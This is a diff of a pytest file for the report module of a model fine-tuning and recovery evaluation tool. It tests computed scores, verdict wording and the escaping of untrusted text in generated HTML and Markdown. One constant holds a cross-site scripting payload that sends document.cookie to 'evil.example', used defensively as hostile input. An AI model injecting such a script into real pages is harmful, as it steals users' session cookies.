@@ -1,23 +1,23 @@
-"""The report of small synthetic runs whose every number is known beforehand."""
+"""The written report of small synthetic runs."""
 
 import json
 import re
 import shutil
 import subprocess
 import sys
-from pathlib import Path
 
 import pytest
 import yaml
 from helpers.page import Page
+from helpers.synthetic import measure_fully, pages, write
 
-from opdcl.errors import UsageError
-from opdcl.results import plots, stats
-from opdcl.results import report as report
-from opdcl.rundir.layout import RunDir
+from opdcl.results import plots, report, stats
+from opdcl.results.samples import pick_samples
+from opdcl.results.scores import load_suites
+from opdcl.results.summary import summarise
+from opdcl.results.tables import MISSING
+from opdcl.sanitize import harmless
 
-N = 40
-STRICT = "prompt_level_strict_acc"
 PAYLOAD = '<script>fetch("https://evil.example/?" + document.cookie)</script><img src=x onerror=alert(1)>'
 HOSTILE = (
     PAYLOAD
@@ -25,275 +25,14 @@ HOSTILE = (
 )
 
 
-def write(path: Path, value) -> None:
-    path.parent.mkdir(parents=True, exist_ok=True)
-    rows = value if isinstance(value, list) else None
-    path.write_text("".join(json.dumps(r) + "\n" for r in rows) if rows is not None else json.dumps(value))
-
-
-def measure(run: RunDir, state: str, suite: str, role: str, passes: set[int], n: int = N, **more) -> None:
-    """Write one evaluation in which the prompts numbered in `passes` are passed, and which has two more metrics."""
-    rows = [
-        {
-            "doc_id": i,
-            "prompt": more.get("prompt", f"Prompt number {i} of {suite}"),
-            "response": more.get("response", f"{state} answers {i}"),
-            "target": None,
-            "scores": {STRICT: i in passes, "inst_level_strict_acc": [True, i in passes]},
-            "tokens": 50,
-        }
-        for i in range(n)
-    ]
-    mean = len(passes) / n
-    result = {
-        "state": state,
-        "suite": suite,
-        "role": role,
-        "metric": STRICT,
-        "n": n,
-        "metrics": {
-            STRICT: mean,
-            "inst_level_strict_acc": (1 + mean) / 2,
-            "prompt_level_loose_acc": mean + 0.01,
-            "inst_level_loose_acc": (1 + mean) / 2 + 0.01,
-        },
-        "floor": {"empty": {STRICT: 0.0}, "constant": {STRICT: 0.05}, "copy": {STRICT: 0.025}},
-        "model": {"id": "smollm2-135m", "adapter_sha256": None if state == "base" else f"{state}-hash"},
-        "cost": {"seconds": 10.0, "tokens": 1000, "peak_memory_bytes": 2 * 2**30},
-    }
-    write(run.eval_result(state, suite), result)
-    write(run.eval_samples(state, suite), rows)
-
-
-@pytest.fixture
-def empty(tmp_path, monkeypatch) -> RunDir:
-    """A run that has been planned and not started. A thousand resamples are enough here."""
-    monkeypatch.setattr(stats, "RESAMPLES", 1000)
-    run = RunDir(tmp_path / "quickstart")
-    evaluation = {"retention": ["instructions"], "domain": ["handbook"], "control": ["neighbours"], "seed": 0}
-    sections = {
-        "finetune": {"seed": 11},
-        "recover": {"seed": 12},
-        "eval": evaluation,
-        "model": {"id": "smollm2-135m"},
-    }
-    write(run.config, {"workflow": {"name": "quickstart", **sections}, "origins": {}})
-    return run
-
-
-@pytest.fixture
-def run(empty) -> RunDir:
-    """A whole run: retention 32, 8 and 28 of 40; domain 4, 36 and 32 of 40."""
-    measure(empty, "base", "instructions", "retention", set(range(32)))
-    measure(empty, "tuned", "instructions", "retention", set(range(8)))
-    measure(empty, "recovered", "instructions", "retention", set(range(28)))
-    measure(empty, "base", "handbook", "domain", set(range(4)))
-    measure(empty, "tuned", "handbook", "domain", set(range(36)))
-    measure(empty, "recovered", "handbook", "domain", set(range(32)))
-    cost = {"seconds": 451.0, "tokens": 123456, "peak_memory_bytes": 3 * 2**30, "steps": 3}
-    for index, stage in enumerate(("finetune", "recover"), 1):
-        write(empty.stage(index, stage).record, {"stage": stage, "status": "done", "cost": cost})
-    manifest = {
-        "created": "2026-01-02T03:04:05Z",
-        "opdcl": "0.1.0",
-        "command": "opdcl run quickstart",
-        "versions": {"torch": "2.13.0"},
-        "device": {"name": "two cores", "cores": 2, "memory_bytes": 8 * 2**30, "dtype": "bfloat16"},
-        "base": {
-            "id": "smollm2-135m",
-            "revision": None,
-            "license": "apache-2.0",
-            "fingerprint_before": "feedbeef",
-            "fingerprint_after": "feedbeef",
-        },
-        "adapters": {
-            "tuned": {"path": "stages/01-finetune/adapter", "sha256": "tuned-hash"},
-            "recovered": {"path": "stages/02-recover/adapter", "sha256": "recovered-hash"},
-        },
-        "seconds": 1234,
-    }
-    write(empty.manifest, manifest)
-    return empty
-
-
-@pytest.fixture
-def trained(run) -> RunDir:
-    """The same run with the metrics of its training, which take time to plot."""
-    write(run.stage(1, "finetune").metrics, [{"step": s, "loss": 3.0 / s} for s in range(1, 30)])
-    training = [
-        {"step": s, "stream": "domain" if s % 4 == 0 else "general", "loss": 1 / s, "kl": 1 / s}
-        for s in range(1, 17)
-    ]
-    checks = [
-        {"step": s, "validation": {"general_kl": 1 / (1 + s), "domain_kl": s / 1000, "best": s == 16}}
-        for s in (0, 8, 16)
-    ]
-    write(run.stage(2, "recover").metrics, training + checks)
-    return run
-
-
-def pages(run: RunDir) -> dict[str, str]:
-    return {path.name: path.read_text(encoding="utf-8") for path in report.write(run)}
-
-
-def test_scores_ratios_and_cost_are_those_worked_out_by_hand(run):
-    found = report.summarise(run)
-    suite = found["suites"]["instructions"]
-    assert [suite[s]["value"] for s in ("base", "tuned", "recovered")] == pytest.approx([0.8, 0.2, 0.7])
-    assert suite["base"]["low"] < 0.8 < suite["base"]["high"]
-    assert (suite["n"], suite["floor"], suite["metric"], suite["role"]) == (N, 0.05, STRICT, "retention")
-    assert found["recovery"]["value"] == pytest.approx((28 - 8) / (32 - 8), abs=1e-5)
-    assert found["domain_retention"]["value"] == pytest.approx((32 - 4) / (36 - 4))
-    assert found["tests"]["recovered_minus_base"]["value"] == pytest.approx(-0.1)
-    # 24 prompts only base passes, none only tuned: p = 2 / 2^24.
-    assert found["tests"]["mcnemar"]["tuned_minus_base"] == pytest.approx(2 / 2**24)
-    assert found["cost"]["finetune"] == {"seconds": 451.0, "tokens": 123456, "peak_memory_bytes": 3 * 2**30}
-    assert found["cost"]["eval"] == {"seconds": 60.0, "tokens": 6000, "peak_memory_bytes": 2 * 2**30}
-
-
-def test_the_other_ifeval_metrics_are_there_for_every_state(run):
-    metrics = report.summarise(run)["suites"]["instructions"]["metrics"]
-    assert set(metrics) == {"inst_level_strict_acc", "prompt_level_loose_acc", "inst_level_loose_acc"}
-    assert metrics["inst_level_strict_acc"] == pytest.approx({"base": 0.9, "tuned": 0.6, "recovered": 0.85})
-
-
-def test_the_summary_is_json_and_keeps_its_keys_on_an_empty_run(run, empty, tmp_path):
-    whole = report.summarise(run)
-    json.dumps(whole, allow_nan=False)
-    shutil.rmtree(run.evals)
-    shutil.rmtree(run.path / "stages")
-    run.manifest.unlink()
-    nothing = report.summarise(run)
-    assert set(nothing) == set(whole)
-    assert set(nothing["tests"]) == set(whole["tests"])
-    assert set(nothing["suites"]["instructions"]) == set(whole["suites"]["instructions"])
-    assert nothing["cost"] == {"finetune": {}, "recover": {}, "eval": {}}
-    assert nothing["status"] == "not measured"
-    assert nothing["verdict"].startswith("Not measured yet")
-
-
-def test_partly_recovered_is_not_called_recovered(run):
-    found = report.summarise(run)
-    assert found["status"] == "partly recovered"
-    assert found["verdict"].startswith(
-        "Partly recovered: instruction following rose to 70.0 % (base 80.0 %, tuned 20.0 %)"
-    )
-    assert "R = 0.83 [" in found["verdict"]
-    assert "but only 88 % [" in found["verdict"]
-    assert found["verdict"].count(". ") == 0
-
-
-def test_a_full_recovery_says_so_with_the_domain_beside_it(run):
-    measure(run, "recovered", "instructions", "retention", set(range(32)))
-    measure(run, "recovered", "handbook", "domain", set(range(36)))
-    found = report.summarise(run)
-    assert found["status"] == "recovered"
-    assert found["verdict"] == (
-        "Recovered: instruction following is back to 80.0 % (base 80.0 %, tuned 20.0 %), R = 1.00 [1.00, 1.00], "
-        "and 100 % [100, 100] of the domain gain is kept."
-    )
-
-
-def test_turning_the_adapter_off_is_recovery_that_lost_the_domain(run):
-    measure(run, "recovered", "instructions", "retention", set(range(32)))
-    measure(run, "recovered", "handbook", "domain", set(range(4)))
-    assert "but only 0 % [0, 0] of the domain gain is kept" in report.summarise(run)["verdict"]
-
-
-def test_no_gain_over_tuned_is_not_shown(run):
-    measure(run, "recovered", "instructions", "retention", set(range(8)))
-    found = report.summarise(run)
-    assert found["status"] == "not shown"
-    assert "not shown" in found["verdict"]
-
-
-@pytest.mark.parametrize("tuned", [32, 30, 29, 36])
-def test_below_ten_points_of_drop_there_is_no_measurable_forgetting(run, tuned):
-    measure(run, "tuned", "instructions", "retention", set(range(tuned)))
-    found = report.summarise(run)
-    assert found["recovery"] is None
-    assert found["status"] == "no measurable forgetting"
-    assert found["verdict"].startswith("No measurable forgetting")
-
-
 def test_without_measurable_forgetting_no_file_prints_an_r(run):
-    measure(run, "tuned", "instructions", "retention", set(range(30)))
-    found = pages(run)
-    assert not [name for name, page in found.items() if "R = " in page]
-    assert re.search(r"5\.0 points .*, less than the 10 that a ratio needs", found["report.md"])
+    measure_fully(run, "tuned", "instructions", "retention", set(range(30)))
+    files = pages(run)
+    assert not [name for name, page in files.items() if "R = " in page]
+    assert re.search(r"5\.0 points .*, less than the 10 that a ratio needs", files["report.md"])
 
 
-def test_without_a_domain_gain_there_is_no_d_and_the_reason_is_given(run):
-    measure(run, "tuned", "handbook", "domain", set(range(5)))
-    assert report.summarise(run)["domain_retention"] is None
-    assert "gain on the domain is not measurably above zero" in pages(run)["report.html"]
-
-
-def test_an_instruction_level_headline_counts_instructions(run):
-    for state in ("base", "tuned", "recovered"):
-        path = run.eval_result(state, "instructions")
-        path.write_text(
-            path.read_text().replace(f'"metric": "{STRICT}"', '"metric": "inst_level_strict_acc"')
-        )
-    found = report.summarise(run)
-    assert found["suites"]["instructions"]["tuned"]["value"] == pytest.approx(0.6)
-    assert found["recovery"]["value"] == pytest.approx(20 / 24, abs=1e-5)
-    assert found["tests"]["mcnemar"]["tuned_minus_base"] is None
-
-
-def test_a_fractional_score_is_averaged_and_has_no_mcnemar_test(run):
-    for state, value in (("base", 0.2), ("tuned", 0.75), ("recovered", 0.7)):
-        path = run.eval_samples(state, "handbook")
-        rows = [json.loads(line) for line in path.read_text().splitlines()]
-        write(path, [r | {"scores": {STRICT: value + (r["doc_id"] % 2) / 10}} for r in rows])
-    assert report.summarise(run)["suites"]["handbook"]["tuned"]["value"] == pytest.approx(0.8)
-    assert "85 %" in pages(run)["report.html"]
-
-
-def test_only_prompts_that_every_state_answered_are_compared(run):
-    measure(run, "tuned", "instructions", "retention", set(range(8)), n=30)
-    found = report.summarise(run)
-    assert found["suites"]["instructions"]["n"] == 30
-    assert found["suites"]["instructions"]["base"]["value"] == 1.0
-    assert any("10 prompts are left out" in note for note in found["notes"])
-
-
-def test_states_measured_on_different_prompts_are_refused(run):
-    measure(run, "tuned", "instructions", "retention", set(), prompt="something else")
-    with pytest.raises(UsageError, match="no prompt in common"):
-        report.summarise(run)
-
-
-def test_tasks_of_a_group_that_count_from_zero_are_kept_apart(run):
-    for state, passes in (("base", 40), ("tuned", 0), ("recovered", 40)):
-        first, second = [], []
-        for i in range(20):
-            row = {"doc_id": i, "response": "", "target": None, "scores": {STRICT: passes == 40}, "tokens": 1}
-            first.append(row | {"prompt": f"task one, {i}"})
-            second.append(row | {"prompt": f"task two, {i}"})
-        write(run.eval_samples(state, "instructions"), first + second)
-    assert report.summarise(run)["suites"]["instructions"]["n"] == 40
-
-
-def test_the_first_retention_suite_of_the_config_is_the_headline(run):
-    config = json.loads(run.config.read_text())
-    config["workflow"]["eval"]["retention"] = ["instructions", "arithmetic"]
-    write(run.config, config)
-    for state in ("base", "tuned", "recovered"):
-        measure(run, state, "arithmetic", "retention", set(range(20)))
-        measure(run, state, "neighbours", "control", set(range(20)))
-    found = report.summarise(run)
-    assert list(found["suites"]) == ["instructions", "arithmetic", "handbook", "neighbours"]
-    assert found["headline"] == {"retention": "instructions", "domain": "handbook"}
-    assert found["status"] == "partly recovered"
-
-
-def test_a_base_at_the_floor_is_pointed_out(run):
-    measure(run, "base", "instructions", "retention", {0, 1})
-    assert any("not measurably above the floor of 5.0 %" in note for note in report.summarise(run)["notes"])
-
-
-def test_a_changed_base_and_a_foreign_adapter_are_pointed_out(run):
+def test_a_changed_base_and_a_foreign_adapter_get_notes(run):
     manifest = json.loads(run.manifest.read_text())
     manifest["base"]["fingerprint_after"] = "deadbeef"
     manifest["adapters"]["recovered"]["sha256"] = "retrained"
@@ -305,11 +44,11 @@ def test_a_changed_base_and_a_foreign_adapter_are_pointed_out(run):
     assert "identical before and after" not in html
 
 
-def test_html_shows_verdict_scores_plots_cost_and_how_to_repeat_it(trained):
+def test_html_shows_verdict_scores_plots_cost_and_how_to_reproduce_the_run(trained):
     page = Page(pages(trained)["report.html"])
     assert page.tags.count("svg") == 3
     for expected in (
-        report.summarise(trained)["verdict"].replace(
+        summarise(trained)["verdict"].replace(
             " %", "\N{NO-BREAK SPACE}%"
         ),  # no line starts with a percent sign
         "80.0 %",
@@ -331,10 +70,14 @@ def test_html_shows_verdict_scores_plots_cost_and_how_to_repeat_it(trained):
     )
 
 
-def test_html_asks_for_nothing_from_outside_and_runs_nothing(trained):
-    measure(trained, "base", "instructions", "retention", set(range(32)), response=HOSTILE, prompt=HOSTILE)
-    measure(trained, "tuned", "instructions", "retention", set(range(8)), response=HOSTILE, prompt=HOSTILE)
-    measure(
+def test_html_loads_nothing_from_outside_and_runs_no_script(trained):
+    measure_fully(
+        trained, "base", "instructions", "retention", set(range(32)), response=HOSTILE, prompt=HOSTILE
+    )
+    measure_fully(
+        trained, "tuned", "instructions", "retention", set(range(8)), response=HOSTILE, prompt=HOSTILE
+    )
+    measure_fully(
         trained, "recovered", "instructions", "retention", set(range(28)), response=HOSTILE, prompt=HOSTILE
     )
     html = pages(trained)["report.html"]
@@ -369,15 +112,19 @@ def test_names_from_outside_cannot_break_a_page(run):
     for name, text in pages(run).items():
         assert "\x1b" not in text
         assert "\u202e" not in text
-        # In Markdown a backslash disarms a tag or an image, and code spans and quoted YAML render neither.
+        # Metadata is not rendered; whatever stands in it, it must stay metadata.
+        if name == "README.md":
+            metadata, text = text.removeprefix("---\n").split("\n---\n", 1)
+            assert PAYLOAD in yaml.safe_load(metadata)["model-index"][0]["name"]
+        # In Markdown a backslash escapes a tag or an image, and code spans and quoted strings render neither.
         bare = re.sub(r'`[^`\n]*`|"[^"\n]*"', "", text) if name.endswith(".md") else text
         assert not re.search(r"(?<!\\)<(script|img)", bare), name
         assert not re.search(r"\[x\]\(", bare) or name == "report.html", name
 
 
-def test_an_answer_cannot_leave_its_block_in_markdown(run):
+def test_an_answer_cannot_close_its_markdown_block(run):
     for state, passes in (("base", 32), ("tuned", 8), ("recovered", 28)):
-        measure(
+        measure_fully(
             run,
             state,
             "instructions",
@@ -400,25 +147,23 @@ def test_an_answer_cannot_leave_its_block_in_markdown(run):
 
 
 def test_terminal_escapes_and_bidi_overrides_become_visible():
-    assert (
-        report.harmless("a\x1b[2Jb\u202ec\x00\x9b\ud800\u2028") == "a␛[2Jb⟨U+202E⟩c␀⟨U+009B⟩⟨U+D800⟩⟨U+2028⟩"
-    )
-    assert report.harmless("line\r\n\ttab ä 漢 👩\u200d🔬") == "line\n\ttab ä 漢 👩\u200d🔬"
+    assert harmless("a\x1b[2Jb\u202ec\x00\x9b\ud800\u2028") == "a␛[2Jb⟨U+202E⟩c␀⟨U+009B⟩⟨U+D800⟩⟨U+2028⟩"
+    assert harmless("line\r\n\ttab ä 漢 👩\u200d🔬") == "line\n\ttab ä 漢 👩\u200d🔬"
 
 
-def test_samples_are_the_first_that_came_back_and_the_first_that_did_not(run):
-    came_back, lost = report.pick_samples(report.load_suites(run)[0])
+def test_samples_are_the_first_regained_prompts_and_the_first_lost_ones(run):
+    came_back, lost = pick_samples(load_suites(run)[0])
     assert [s["number"] for s in came_back["samples"]] == [8, 9, 10, 11]
     assert (came_back["count"], came_back["of"]) == (20, 24)
     assert [s["number"] for s in lost["samples"]] == [28, 29, 30, 31]
     assert [a["mark"] for a in came_back["samples"][0]["answers"]] == ["pass", "fail", "pass"]
-    kept, gone = report.pick_samples(report.load_suites(run)[1])
+    kept, gone = pick_samples(load_suites(run)[1])
     assert [s["number"] for s in kept["samples"]] == [4, 5, 6, 7]
     assert [s["number"] for s in gone["samples"]] == [32, 33, 34, 35]
 
 
 def test_long_answers_are_cut_and_say_so(run):
-    measure(run, "tuned", "instructions", "retention", set(range(8)), response="word " * 5000)
+    measure_fully(run, "tuned", "instructions", "retention", set(range(8)), response="word " * 5000)
     html = pages(run)["report.html"]
     assert "more characters)" in html
     assert "word " * 500 not in html
@@ -431,19 +176,6 @@ def test_a_run_with_only_a_finetune_has_a_report(trained):
     assert "Not measured yet" in files["report.html"]
     assert Page(files["report.html"]).tags.count("svg") == 1
     assert "not run" in files["report.html"]
-
-
-def test_before_recovery_base_and_tuned_are_shown_and_the_verdict_waits(run):
-    for suite in ("instructions", "handbook"):
-        run.eval_result("recovered", suite).unlink()
-    found = report.summarise(run)
-    assert found["status"] == "not measured"
-    assert found["verdict"] == (
-        "Not measured yet: instruction following has no result for recovered (so far: base 80.0 %, tuned 20.0 %)."
-    )
-    assert found["recovery"] is None
-    assert found["suites"]["instructions"]["recovered"] == {}
-    assert "Lost by the fine-tune" in pages(run)["report.html"]
 
 
 def test_an_empty_run_has_a_report(empty):
@@ -493,51 +225,26 @@ def test_a_plot_needs_two_points():
 def test_importing_the_report_loads_neither_a_model_library_nor_a_plotting_one():
     heavy = ["torch", "transformers", "trl", "peft", "datasets", "lm_eval", "matplotlib", "jinja2", "scipy"]
     code = f"import sys, opdcl.results.report; print([m for m in {heavy} if m in sys.modules])"
-    found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
-    assert found.stdout.strip() == "[]"
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
+    assert done.stdout.strip() == "[]"
+
+
+def test_a_given_summary_is_the_one_that_is_written(run):
+    pages_without = pages(run)
+    summary = summarise(run)
+    stats._resamples.cache_clear()
+    report.write(run, summary)
+    assert stats._resamples.cache_info().misses == 0
+    assert {name: (run.path / name).read_text(encoding="utf-8") for name in pages_without} == pages_without
+    report.write(run, summary | {"verdict": "Computed elsewhere."})
+    assert "Computed elsewhere." in (run.path / "report.md").read_text()
 
 
 @pytest.mark.parametrize(
-    ("rows", "said"),
-    [
-        (
-            [
-                {
-                    "step": 3,
-                    "health": {"sign": "repetition", "value": 0.8, "bound": 0.6, "action": "rate halved"},
-                }
-            ],
-            "step 3: repetition was 0.8",
-        ),
-        (
-            [
-                {"step": 0, "validation": {"best": True}, "warm_start": {"alpha": 0.7}},
-                {"step": 8, "validation": {"best": False}},
-            ],
-            "the tuned adapter times 0.7: no step of training",
-        ),
-        (
-            [
-                {"step": 0, "validation": {}, "interpolation": {"alpha": 0.55}},
-                {"step": 1, "validation": {"best": True}},
-            ],
-            "the tuned adapter times 0.55: no training was done",
-        ),
-        ([{"step": 1, "mismatch": 0.01, "tokens": 500, "loss": 1.0}], "about 1.00% of the fresh tokens"),
-    ],
+    ("stream", "cells"), [("general", ["0.500", MISSING]), ("domain", [MISSING, "0.500"])]
 )
-def test_notes_tell_what_the_recovery_itself_shows(run, rows, said):
-    write(run.stage(2, "recover").metrics, rows)
-    assert any(said in note for note in report.summarise(run)["notes"])
-
-
-def test_a_recovery_without_trouble_has_no_notes(run):
-    write(
-        run.stage(2, "recover").metrics,
-        [
-            {"step": 0, "validation": {"best": True}, "warm_start": {"alpha": 1.0}},
-            {"step": 1, "mismatch": 0.0, "tokens": 500},
-            {"step": 8, "validation": {"best": True}},
-        ],
-    )
-    assert not [note for note in report.summarise(run)["notes"] if note.startswith("Recovery")]
+def test_a_recovery_with_one_stream_has_a_report(run, stream, cells):
+    rows = [{"step": s, "stream": stream, "loss": 1.0, "kl": 1.0} for s in range(1, 9)]
+    check = {"step": 8, "validation": {f"{stream}_kl": 0.5, "best": True}}
+    write(run.stage(2, "recover").metrics, [*rows, check])
+    assert f"| 8 | {' | '.join(cells)} | kept |" in pages(run)["report.md"]
